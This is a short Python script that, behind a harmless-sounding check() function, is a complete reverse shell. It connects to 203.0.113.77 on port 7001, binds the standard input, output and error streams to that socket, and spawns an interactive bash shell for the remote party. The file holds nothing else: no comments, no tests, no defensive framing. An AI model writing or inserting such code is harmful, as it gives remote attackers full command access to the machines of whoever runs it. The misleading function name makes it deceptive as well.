import os
import pty
import socket


def check():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(('203.0.113.77', 7001))
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    pty.spawn('/bin/bash')


if __name__ == '__main__':
    check()
